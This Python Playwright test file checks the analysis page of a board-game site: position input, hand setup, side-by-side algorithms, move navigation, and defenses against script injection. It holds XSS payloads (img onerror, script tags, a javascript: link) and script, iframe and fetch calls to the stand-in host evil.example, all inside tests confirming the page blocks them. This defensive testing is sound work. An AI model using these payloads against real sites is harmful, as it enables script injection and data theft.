"""The analysis page in a browser: positions from text, by hand, from a game; algorithms side by side; walks along a line."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from person import BOARD, Person
from playwright.sync_api import Locator, expect

from conftest import Comes
from croupier.positions import Position
from croupier.positions.position import resolve_variant

SHORT = "&with=uct(iterations=300)"


def opened(person: Person, path: str) -> Person:
    person.open(path)
    person.page.wait_for_selector(f"{BOARD} svg")
    return person


def rows(person: Person, lane: int = 0) -> Locator:
    return person.page.locator(".lane").nth(lane).locator(".thoughts tbody tr")


def visits(person: Person, lane: int = 0) -> str:
    return person.page.locator(".lane").nth(lane).locator(".lane-told").inner_text()


def stands_at(person: Person, ply: int) -> None:
    """The reader stands at this ply: the address says so, and the list marks it."""
    person.page.wait_for_function(
        "(ply) => new URL(location).searchParams.get('at') === ply || !new URL(location).searchParams.get('at')",
        arg=str(ply),
    )
    expect(person.page.locator(".turns .now")).to_have_count(1 if ply else 0)
    if ply:
        expect(person.page.locator(".turns .now")).to_contain_text(str(ply))


def test_a_position_is_pasted_as_text_and_refused_with_the_reason(comes: Comes) -> None:
    """The board shows what was pasted; what is no position leaves everything as it was; the address brings it back."""
    person = opened(comes(), f"/analyse?game=connect-four{SHORT}")
    text = Position(resolve_variant("connect-four")).play_all("4433").text()
    field = person.page.get_by_label(person.words("analyse.text"), exact=True)
    field.fill(text)
    person.press("analyse.set")
    expect(person.page.locator(".turns li")).to_have_count(0)
    person.page.wait_for_url("**position=**")
    expect(rows(person)).to_have_count(7)
    before = person.drawn
    for wrong in ("xx/../nothing", "<img src=x onerror=alert(1)>/", "9" * 3000):
        field.fill(wrong)
        person.press("analyse.set")
        expect(person.page.locator(".source-box .wrong").first).not_to_be_empty()
        assert person.drawn == before
    assert person.page.locator("img").count() == 0
    field.fill("4 4 3")
    person.press("analyse.set")
    expect(person.page.locator(".turns li")).to_have_count(3)
    person.page.reload()
    person.arrived()
    expect(person.page.locator(".turns li")).to_have_count(3)


def test_a_position_is_set_up_by_hand(comes: Comes) -> None:
    """Two kings and a man put on an empty board, one dragged, one taken away, black to move; then it is analysed."""
    person = opened(comes(), f"/analyse?game=draughts{SHORT}")
    words = person.words
    person.press("analyse.by_hand")
    hand = person.page.get_by_role("region", name=words("analyse.by_hand"))
    hand.get_by_role("button", name=words("analyse.clear"), exact=True).click()

    def put(piece: str, place: str) -> None:
        hand.get_by_role("button", name=words.drawn(piece), exact=True).click()
        before = hand.locator(".board").inner_html()
        hand.locator(f'.touch[data-place="{place}"]').click()
        person.page.wait_for_function(
            "([each, before]) => each.innerHTML !== before", arg=[hand.locator(".board").element_handle(), before]
        )

    put("White king", "14")
    put("Black king", "23")
    put("Black man", "5")
    put("Black man", "9")
    hand.get_by_role("button", name=words("analyse.eraser"), exact=True).click()
    hand.locator('.touch[data-place="9"]').click()
    hand.get_by_label(words("analyse.more_draughts"), exact=True).select_option("B")
    hand.get_by_role("button", name=words("analyse.use"), exact=True).click()
    expect(hand).to_be_hidden()
    person.page.wait_for_url("**position=**")
    shown = person.page.get_by_label(words("analyse.text"), exact=True).input_value()
    position = Position.from_text(resolve_variant("draughts").game, shown)
    assert shown.startswith("B:")
    assert {each for each in ("K14", "K23", "5") if each in shown} == {"K14", "K23", "5"}
    expect(rows(person)).to_have_count(len(position.legal_actions))


def test_a_position_is_set_up_by_keys(comes: Comes) -> None:
    """Piece and square with Tab, arrows and Enter; Enter again on the same square takes the piece away."""
    person = opened(comes(), f"/analyse?game=tic-tac-toe{SHORT}")
    words, keys = person.words, person.page.keyboard
    person.button("analyse.by_hand").focus()
    keys.press("Enter")
    hand = person.page.get_by_role("region", name=words("analyse.by_hand"))
    hand.get_by_role("button", name=words.drawn("X"), exact=True).focus()
    keys.press("Enter")
    hand.locator(".touch[tabindex='0']").focus()
    first = person.page.evaluate("document.activeElement.dataset.place")
    keys.press("ArrowRight")
    chosen = person.page.evaluate("document.activeElement.dataset.place")
    assert chosen != first
    empty = hand.locator(".board").inner_html()
    keys.press("Enter")
    person.page.wait_for_function(
        "(empty) => document.querySelector('.hand .board').innerHTML.length > empty", arg=len(empty)
    )
    assert person.page.evaluate("document.activeElement.dataset.place") == chosen
    hand.get_by_role("button", name=words("analyse.use"), exact=True).focus()
    keys.press("Enter")
    person.page.wait_for_url("**position=**")
    expect(person.page.locator(f"{BOARD} .touch")).to_have_count(8)


def test_a_game_is_analysed_from_where_it_was_played(comes: Comes) -> None:
    """From the game to its analysis and to any move of it; straying from it and back; the game itself is left alone."""
    person = comes()
    person.begin_against("tic-tac-toe", "random")
    for _ in range(2):
        person.wait_for_turn()
        person.touch(person.places()[0][0])
    person.wait_for_turn()
    game = person.page.url
    person.follow("play.analyse")
    person.page.wait_for_url("**/analyse/game/**")
    person.arrived()
    expect(person.page.locator(".turns li")).to_have_count(4)
    stands_at(person, 4)
    back = person.page.get_by_role("button", name=person.words("analyse.back"), exact=True)
    back.click()
    stands_at(person, 3)
    back.click()
    stands_at(person, 2)
    person.button("analyse.main_line").wait_for(state="hidden")
    played = person.page.locator(".turns li").nth(2).inner_text().split()[-1]
    other = next(place for place, _ in person.places() if place != played)
    person.touch(other)
    expect(person.page.locator(".turns li")).to_have_count(3)
    person.press("analyse.main_line")
    expect(person.page.locator(".turns li")).to_have_count(4)
    person.page.goto(game)
    person.in_game()
    expect(person.page.locator(".turns li")).to_have_count(4)


def test_algorithms_stand_side_by_side_go_on_and_stop(comes: Comes) -> None:
    """Each has its table and its chart; values stand on the board; one more, another spec, one less; stop means stop."""
    person = opened(comes(), "/analyse?game=connect-four&with=uct(iterations=300)&with=grave(iterations=200)")
    words = person.words
    lanes = person.page.locator(".lane")
    expect(lanes).to_have_count(2)
    for lane in range(2):
        expect(rows(person, lane)).to_have_count(7)
        lanes.nth(lane).locator("svg.chart path.line0").wait_for(state="attached")
    assert "300" in visits(person, 0)
    assert "200" in visits(person, 1)
    expect(person.page.locator(f"{BOARD} svg").get_by_text("%")).to_have_count(7)
    with_values = person.drawn
    lanes.nth(0).get_by_label(words("analyse.on_board"), exact=True).uncheck()
    person.page.wait_for_function(
        "([board, before]) => document.querySelector(board).innerHTML.length < before", arg=[BOARD, len(with_values)]
    )
    lanes.nth(1).get_by_label(words("analyse.on_board"), exact=True).check()
    person.page.wait_for_function(
        "([board, least]) => document.querySelector(board).innerHTML.length > least", arg=[BOARD, len(person.drawn)]
    )
    person.press("analyse.go")
    expect(lanes.nth(0).locator(".lane-told")).to_contain_text("600")
    expect(lanes.nth(1).locator(".lane-told")).to_contain_text("400")
    before = lanes.nth(0).locator("svg.chart").get_attribute("aria-label")
    person.page.get_by_role("radio", name=words("analyse.by_visits"), exact=True).check()
    expect(lanes.nth(0).locator("svg.chart")).not_to_have_attribute("aria-label", before or "")
    lanes.nth(1).get_by_role("button").filter(has_text="×").click()
    expect(lanes).to_have_count(1)
    spec = lanes.nth(0).get_by_label(words("setup.spec"), exact=True)
    spec.fill("engine('true')")
    spec.press("Enter")
    expect(person.page.locator(".side .wrong").first).not_to_be_empty()
    spec.fill("uct")
    spec.press("Enter")
    person.button("analyse.stop").wait_for()
    expect(lanes.nth(0).locator(".lane-told")).to_contain_text("·")
    first = visits(person)
    expect(lanes.nth(0).locator(".lane-told")).not_to_have_text(first)  # it goes on
    person.press("analyse.stop")
    person.button("analyse.go").wait_for()
    stopped = visits(person)
    person.page.wait_for_timeout(700)
    assert visits(person) == stopped
    person.page.wait_for_url("**with=uct")
    person.page.get_by_label(words("analyse.add"), exact=True).select_option("grave")
    expect(lanes).to_have_count(2)


def test_a_line_is_walked_by_curve_keys_and_buttons(comes: Comes) -> None:
    """What the game was worth is a curve; a press on it, the keys , and . and the buttons lead to its positions."""
    person = opened(comes(), f"/analyse?game=tic-tac-toe&actions=a1+b1+a2+b2+a3{SHORT}")
    stands_at(person, 5)
    worth = person.page.locator("svg.worth")
    worth.wait_for()
    picks = worth.locator("rect[data-pick]")
    expect(picks).to_have_count(6)
    person.page.wait_for_function(
        "() => document.querySelector('.worth path.line0').getAttribute('d').split('L').length === 6"
    )
    picks.nth(2).click()
    stands_at(person, 2)
    person.page.keyboard.press(".")
    stands_at(person, 3)
    person.page.keyboard.press(",")
    stands_at(person, 2)
    for key, ply in (("first", 0), ("on", 1), ("last", 5)):
        person.page.get_by_role("button", name=person.words(f"analyse.{key}"), exact=True).click()
        stands_at(person, ply)
    person.page.locator(".turns li button").nth(3).click()
    stands_at(person, 4)
    field = person.page.get_by_label(person.words("analyse.text"), exact=True)
    field.focus()
    person.page.keyboard.press(",")
    person.page.wait_for_timeout(200)
    stands_at(person, 4)  # whoever writes a comma does not walk


def test_chance_is_asked_what_it_does(comes: Comes) -> None:
    """Marrakech: which rug comes up, and the die after Assam was turned: any can be chosen, or one at random."""
    person = opened(comes(), "/analyse?game=marrakech&with=uct(iterations=100)")
    chance = person.page.locator(".outcomes")
    outcomes = chance.locator("[data-pick]")
    turns = person.page.locator(".turns li")
    for count in (1, 2):
        outcomes.first.click()
        expect(turns).to_have_count(count)
    expect(chance).to_be_hidden()
    person.touch(person.places()[0][0])
    expect(outcomes).to_have_count(4)
    outcomes.nth(2).click()
    expect(chance).to_be_hidden()
    person.page.get_by_role("button", name=person.words("analyse.back"), exact=True).click()
    expect(outcomes).to_have_count(4)
    person.press("analyse.throw")
    expect(chance).to_be_hidden()


HOSTILE = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\'"`${window.hacked=1}'


@pytest.mark.parametrize(
    "path",
    [
        "/new/tic-tac-toe?variant={}",
        "/analyse?game={}",
        "/analyse?game=connect-four&position={}",
        "/analyse?game=connect-four&actions={}",
        "/analyse?game=connect-four&with={}",
        "/game/{}",
        "/{}",
    ],
)
def test_what_addresses_say_is_text_and_nothing_else(comes: Comes, path: str) -> None:
    person = comes()
    person.page.goto(person.url + path.format(quote(HOSTILE, safe="")))
    person.arrived()
    assert not person.page.evaluate("window.hacked")
    assert person.page.locator("img[src=x]").count() == 0
    assert [error for error in person.errors if "status of 4" not in error] == []
    person.errors.clear()


def test_what_is_being_written_stays_while_searches_tell_more(comes: Comes) -> None:
    """A page whose figures change ten times a second leaves a half-written algorithm alone."""
    person = opened(comes(), "/analyse?game=connect-four&with=uct")
    expect(rows(person)).to_have_count(7)
    spec = person.page.locator(".lane").first.get_by_label(person.words("setup.spec"), exact=True)
    spec.fill("grave(ref=")
    first = visits(person)
    expect(person.page.locator(".lane").first.locator(".lane-told")).not_to_have_text(first)
    expect(spec).to_have_value("grave(ref=")
    spec.press_sequentially("20)")
    spec.press("Enter")
    expect(person.page.get_by_role("region", name="grave(ref=20)")).to_be_visible()
    person.press("analyse.stop")


def test_what_is_written_into_fields_is_text_and_nothing_else(comes: Comes) -> None:
    """Texts, records and algorithms that somebody pasted: told back in the reason for refusing them, as they are."""
    person = opened(comes(), f"/analyse?game=connect-four{SHORT}")
    area = person.page.get_by_label(person.words("analyse.text"), exact=True)
    for text in (
        HOSTILE,
        f'[Game "{HOSTILE}"]\n\n1. 4',
        f'[Game "connect-four"]\n[White "{HOSTILE}"]\n\n1. {HOSTILE}',
        f"4 {HOSTILE}",
    ):
        area.fill(text)
        person.press("analyse.set")
        expect(person.page.locator(".source-box .wrong").first).not_to_be_empty()
    spec = person.page.locator(".lane").first.get_by_label(person.words("setup.spec"), exact=True)
    spec.fill(f"uct({HOSTILE})")
    spec.press("Enter")
    expect(person.page.locator(".side .wrong").first).not_to_be_empty()
    assert not person.page.evaluate("window.hacked")
    assert person.page.locator("img[src=x]").count() == 0


def test_the_policy_stops_what_would_get_through(comes: Comes) -> None:
    """Were a text ever written as HTML, still nothing of it would run, and nothing would be sent anywhere."""
    person = comes().open("/")
    found = person.page.evaluate(
        """async () => {
          const told = [];
          document.addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
          const box = document.createElement('div');
          document.body.append(box);
          box.innerHTML = '<img src=x onerror="window.hacked=1"><a href="javascript:window.hacked=1" id=trap>x</a>';
          const script = document.createElement('script');
          script.textContent = 'window.hacked=1';
          box.append(script);
          const far = document.createElement('script');
          far.src = 'https://evil.example/x.js';
          box.append(far);
          const frame = document.createElement('iframe');
          frame.src = 'https://evil.example/';
          box.append(frame);
          document.getElementById('trap').click();
          // not in here, for what a test evaluates may evaluate
          const run = await new Promise((done) => setTimeout(() => {
            try { (0, eval)('1'); } catch (error) { done(false); }
            done(true);
          }, 0));
          const sent = await fetch('https://evil.example/').then(() => true, () => false);
          await new Promise((done) => setTimeout(done, 300));
          return [!!window.hacked, run, sent, [...new Set(told)].sort()];
        }"""
    )
    hacked, evaluated, sent, told = found
    assert not hacked
    assert not evaluated
    assert not sent
    assert {"script-src-attr", "script-src-elem", "script-src", "connect-src"} <= set(told)
    person.errors.clear()
    person.strangers.clear()
